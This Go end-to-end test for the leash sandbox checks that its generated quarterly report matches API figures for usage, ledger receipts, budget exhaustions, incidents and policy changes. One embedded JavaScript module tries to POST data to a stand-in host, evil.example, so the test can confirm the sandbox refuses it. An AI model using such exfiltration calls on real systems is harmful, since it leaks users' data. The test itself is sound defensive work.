package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/leash-dev/leash/api"
	"github.com/leash-dev/leash/cli"
	"github.com/leash-dev/leash/events"
	"github.com/leash-dev/leash/internal/nodetest"
	"github.com/leash-dev/leash/ledger"
)

// TestQuarterlyReport: a real node with traffic — tasks of two tenants on
// two profiles, one that runs out of CPU, a fetch the profile refuses,
// a budget that runs out, an incident contained by a block, a policy
// change — then `leash report` (the binary, with an auditor's key)
// writes the HTML report. Every figure in its JSON block is checked
// against the API's own answers (usage grouped three ways, the ledger's
// export, every member's events, the incidents, each environment's
// history), the page's tables and charts carry the same figures, and the
// page loads nothing from anywhere. With chromium on PATH, --pdf prints
// it to a PDF.
func TestQuarterlyReport(t *testing.T) {
	n := nodetest.Start(t, nodetest.Options{Policy: filepath.Join(nodetest.RepoRoot(), "e2e", "testdata", "report-policy.yaml")})
	var aud api.APIKey
	n.JSON("POST", "/v1/apikeys", n.Token, api.APIKeyRequest{Role: "auditor", Name: "report"}, 201, &aud)
	minimal, loop := guestB64(t, "minimal"), guestB64(t, "loop")

	acme := issue(t, n, api.LeaseRequest{Tenant: "acme", Intent: "small_task"})
	globex := issue(t, n, api.LeaseRequest{Tenant: "globex", Intent: "small_task"})
	globexFetch := issue(t, n, api.LeaseRequest{Tenant: "globex", Intent: "fetch_task"})
	for range 3 {
		runTask(t, n, acme.Token, wasmTask(minimal))
	}
	for range 2 {
		runTask(t, n, globex.Token, wasmTask(minimal))
	}
	if res := runTask(t, n, globex.Token, wasmTask(loop)); res.Outcome != "terminated:cpu" {
		t.Fatalf("loop guest: %s", res.Outcome)
	}
	refused := `export default { async fetch() {
		try { await fetch("https://evil.example/upload", {method: "POST", body: "x"}); return new Response("sent") }
		catch (e) { return new Response("refused: " + e.message) } } }`
	if res := runTask(t, n, globexFetch.Token, api.TaskRequest{Module: api.Module{JS: &refused}}); res.Usage.Blocked != 1 {
		t.Fatalf("the refused fetch: %+v", res)
	}
	const tasks = 7

	// An incident, contained by a block that names it.
	n.JSON("POST", "/v1/incidents", n.Token, api.IncidentRequest{ID: "inc-report", Title: "globex probes evil.example", Owner: "alice"}, 201, nil)
	n.JSON("POST", "/v1/runbook/blocks", n.Token, api.BlockRequest{Destinations: []string{"evil.example"},
		RunbookAction: api.RunbookAction{Reason: "probing", Incident: "inc-report"}}, 200, nil)
	// A policy change: the same bundle pushed to dev.
	src, err := os.ReadFile(filepath.Join(nodetest.RepoRoot(), "e2e", "testdata", "report-policy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	if st, b := n.Do("PUT", "/v1/policy/envs/dev?reason=report+test", n.Token, src, "Content-Type", "application/yaml"); st != 200 && st != 201 {
		t.Fatalf("push to dev: %d %s", st, b)
	}

	// Usage is replicated in batches, and acme's budget_exhausted event
	// follows the batch that crossed: wait for both.
	waitFor(t, 30*time.Second, "usage of every task and acme's budget_exhausted", func() bool {
		var u usageReport
		var ev events.ListResponse
		return n.TryJSON("GET", "/v1/usage?group_by=tenant", aud.Key, nil, 200, &u) == nil && u.Total.Usage["tasks"] == tasks &&
			n.TryJSON("GET", "/v1/events?type=budget_exhausted", aud.Key, nil, 200, &ev) == nil && len(ev.Events) == 1
	})

	today := time.Now().UTC()
	from, to := today.AddDate(0, 0, -1).Format(time.DateOnly), today.Format(time.DateOnly)
	dir := t.TempDir()
	out := filepath.Join(dir, "report.html")
	args := []string{"report", "--from", from, "--to", to, "--out", out}
	pdf := ""
	if _, err := exec.LookPath("chromium"); err == nil {
		pdf = filepath.Join(dir, "report.pdf")
		args = append(args, "--pdf", pdf)
	}
	cmd := exec.Command(nodetest.Binary(t), args...)
	cmd.Env = append(os.Environ(), "LEASH_URL="+n.URL(), "LEASH_TOKEN="+aud.Key)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("leash report: %v\n%s", err, b)
	} else {
		t.Logf("leash report: %s", strings.TrimSpace(string(b)))
	}
	raw, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	page := string(raw)
	m := regexp.MustCompile(`(?s)<script type="application/json" id="leash-report">(.*?)</script>`).FindStringSubmatch(page)
	if m == nil {
		t.Fatal("the report has no JSON block")
	}
	var rep cli.Report
	if err := json.Unmarshal([]byte(m[1]), &rep); err != nil {
		t.Fatalf("the report's JSON: %v", err)
	}

	// Usage and cost, as GET /v1/usage groups them.
	q := "from=" + from + "&to=" + to
	for _, g := range []struct {
		by   string
		rows []cli.ReportUsage
	}{{"tenant,profile", rep.TenantProfiles}, {"tenant", rep.Tenants}, {"profile", rep.Profiles}} {
		var u usageReport
		n.JSON("GET", "/v1/usage?"+q+"&group_by="+g.by, aud.Key, nil, 200, &u)
		if len(u.Rows) != len(g.rows) {
			t.Errorf("group_by=%s: the API has %d rows, the report %d", g.by, len(u.Rows), len(g.rows))
		}
		for _, r := range u.Rows {
			i := slices.IndexFunc(g.rows, func(x cli.ReportUsage) bool {
				return (g.by == "profile" || x.Tenant == r.Tenant) && (g.by == "tenant" || x.Profile == r.Profile)
			})
			if i < 0 {
				t.Errorf("group_by=%s: the report lacks %s/%s", g.by, r.Tenant, r.Profile)
				continue
			}
			x := g.rows[i]
			if x.Tasks != r.Usage["tasks"] || x.CPUMs != r.Usage["cpu_ms"] || x.EgressBytes != r.Usage["egress_bytes_in"]+r.Usage["egress_bytes_out"] ||
				x.ToolCalls != r.Usage["tool_calls"] || x.BlockedCalls != r.Usage["blocked_calls"] || math.Abs(x.Cost-r.Cost["total"]) > 1e-6 {
				t.Errorf("group_by=%s %s/%s: report %+v, API %v %v", g.by, r.Tenant, r.Profile, x, r.Usage, r.Cost)
			}
		}
		if g.by == "tenant" && (rep.Total.Tasks != u.Total.Usage["tasks"] || math.Abs(rep.Total.Cost-u.Total.Cost["total"]) > 1e-6 || rep.Currency != u.Currency) {
			t.Errorf("total: report %+v %s, API %v %v %s", rep.Total, rep.Currency, u.Total.Usage, u.Total.Cost, u.Currency)
		}
	}
	if rep.Total.Tasks != tasks {
		t.Errorf("the report counts %d tasks, the test ran %d", rep.Total.Tasks, tasks)
	}

	// Outcomes, terminations, blocked calls and destinations, as the
	// ledger's export holds them.
	st, exp := n.Do("GET", "/v1/ledger/export", aud.Key, nil)
	if st != 200 {
		t.Fatalf("export: %d", st)
	}
	outcomes, terms, clauses, bdest, dests := map[string]int64{}, map[string]int64{}, map[string]int64{}, map[string]int64{}, map[string]int64{}
	var receipts, records, blocked int64
	x := ledger.NewExportReader(strings.NewReader(string(exp)))
	for {
		rec, err := x.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		records++
		env, err := ledger.DecodeEnvelope(rec.Envelope)
		if err != nil {
			t.Fatal(err)
		}
		if env.PayloadType != ledger.PayloadType {
			continue
		}
		var r ledger.Receipt
		if err := json.Unmarshal(env.Payload, &r); err != nil {
			t.Fatal(err)
		}
		receipts++
		outcomes[r.Outcome]++
		if reason, ok := strings.CutPrefix(r.Outcome, "terminated:"); ok {
			terms[reason]++
		}
		for _, b := range r.BlockedAttempts {
			blocked += int64(b.Count)
			clauses[b.Clause] += int64(b.Count)
			bdest[b.Destination] += int64(b.Count)
		}
		for _, d := range r.Destinations {
			dests[d]++
		}
	}
	if rep.Receipts != receipts || rep.Receipts != tasks || rep.LedgerRecords < records || rep.Blocked != blocked || blocked != 1 {
		t.Errorf("receipts: report %d of %d records, %d blocked; export %d of %d, %d blocked", rep.Receipts, rep.LedgerRecords, rep.Blocked, receipts, records, blocked)
	}
	for name, c := range map[string]struct {
		got  []cli.ReportCount
		want map[string]int64
	}{"outcomes": {rep.Outcomes, outcomes}, "terminations": {rep.Terminations, terms}, "blocked by clause": {rep.BlockedByClause, clauses},
		"blocked by destination": {rep.BlockedByDest, bdest}, "top destinations": {rep.TopDestinations, dests}} {
		got := map[string]int64{}
		for _, r := range c.got {
			got[r.Key] = r.Count
		}
		if fmt.Sprint(got) != fmt.Sprint(c.want) {
			t.Errorf("%s: report %v, export %v", name, got, c.want)
		}
	}
	if terms["cpu"] != 1 || bdest["evil.example:443"] != 1 {
		t.Errorf("the export lacks the test's traffic: terminations %v, blocked %v", terms, bdest)
	}

	// Budget exhaustions, as the events hold them.
	var ev events.ListResponse
	n.JSON("GET", "/v1/events?type=budget_exhausted", aud.Key, nil, 200, &ev)
	if len(rep.BudgetExhaustions) != len(ev.Events) || len(ev.Events) != 1 {
		t.Fatalf("exhaustions: report %+v, events %d", rep.BudgetExhaustions, len(ev.Events))
	}
	if e := rep.BudgetExhaustions[0]; e.Tenant != "acme" || e.Tenant != ev.Events[0].Tenant || e.Resource != "tasks" || e.Limit != 3 {
		t.Errorf("exhaustion: %+v", e)
	}

	// The incident and its time to containment.
	var inc api.Incident
	n.JSON("GET", "/v1/incidents/inc-report", aud.Key, nil, 200, &inc)
	if len(rep.Incidents) != 1 || rep.Incidents[0].ID != inc.ID || inc.TimeToContainmentMs == nil || rep.Incidents[0].TimeToContainmentMs == nil ||
		*rep.Incidents[0].TimeToContainmentMs != *inc.TimeToContainmentMs || rep.MedianContainmentMs == nil || *rep.MedianContainmentMs != *inc.TimeToContainmentMs {
		t.Errorf("incidents: report %+v, API %+v", rep.Incidents, inc)
	}

	// Policy changes, as each environment's history holds them.
	var envs api.PolicyEnvs
	n.JSON("GET", "/v1/policy/envs", aud.Key, nil, 200, &envs)
	var want []string
	for _, e := range envs.Envs {
		var h api.PolicyHistory
		n.JSON("GET", "/v1/policy/envs/"+e.Env+"/history?limit=1000", aud.Key, nil, 200, &h)
		for _, c := range h.Changes {
			want = append(want, fmt.Sprintf("%s/%d/%s", c.Env, c.Seq, c.Action))
		}
	}
	var got []string
	for _, c := range rep.PolicyChanges {
		got = append(got, fmt.Sprintf("%s/%d/%s", c.Env, c.Seq, c.Action))
	}
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) || !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "dev/") }) {
		t.Errorf("policy changes: report %v, history %v", got, want)
	}

	// The page shows the same figures, and loads nothing.
	for _, want := range []string{
		fmt.Sprintf(`data-figure="total-tasks">%s<`, fmtThousands(rep.Total.Tasks)),
		fmt.Sprintf(`data-figure="total-cost">%.6f<`, rep.Total.Cost),
		fmt.Sprintf(`data-figure="blocked">%d<`, blocked),
		fmt.Sprintf(`data-incident="inc-report" data-ttc-ms="%d"`, *inc.TimeToContainmentMs),
		`<svg id="chart-cost-tenant"`, `<svg id="chart-tasks-profile"`, `<svg id="chart-terminations"`, `<svg id="chart-blocked-clause"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	for _, r := range rep.Tenants {
		if want := fmt.Sprintf(`data-tenant=%q data-tasks="%d" data-cost="%.6f"`, r.Tenant, r.Tasks, r.Cost); !strings.Contains(page, want) {
			t.Errorf("the page lacks the row %s", want)
		}
	}
	for _, bad := range []string{"<link", " src=", "@import", "url(", "<img", "<iframe"} {
		if strings.Contains(page, bad) {
			t.Errorf("the page is not self-contained: it holds %q", bad)
		}
	}
	if pdf != "" {
		b, err := os.ReadFile(pdf)
		if err != nil || !strings.HasPrefix(string(b), "%PDF-") {
			t.Errorf("PDF: %v (%d bytes)", err, len(b))
		}
	}
	if err := os.WriteFile(filepath.Join(artifactDir(t), "report.html"), raw, 0o644); err != nil {
		t.Fatal(err)
	}
}
